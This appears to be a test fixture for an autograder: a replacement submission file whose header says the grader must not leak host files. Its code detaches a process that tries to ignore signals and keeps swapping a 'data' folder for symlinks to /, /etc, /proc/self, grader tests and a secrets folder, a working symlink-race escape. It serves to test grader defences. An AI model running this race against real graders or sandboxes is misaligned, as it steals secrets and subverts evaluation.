# replaces: mean_solution
# base: reference
# expect: 3
# message: .
# why: leaves a detached process that keeps swapping a folder for symlinks to /, /etc, /proc/self and the graders while the grader copies files back; nothing of the host may arrive
import os, signal, time


def mean_of(values):
    return float(np.mean(values))


os.makedirs("data", exist_ok=True)
with open("data/result.txt", "w") as handle:
    handle.write("mine\n")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP):
            try:
                signal.signal(sig, signal.SIG_IGN)
            except (OSError, ValueError, RuntimeError):
                pass
        targets = ["/", "/etc", "/proc/self", "__COURSE_ROOT__/grader_tests", "__COURSE_ROOT__/.secrets"]
        index = 0
        while True:
            try:
                os.rename("data", "data.real")
                os.symlink(targets[index % len(targets)], "data")
                time.sleep(0.0005)
                os.unlink("data")
                os.rename("data.real", "data")
            except OSError:
                pass
            index += 1
    os._exit(0)
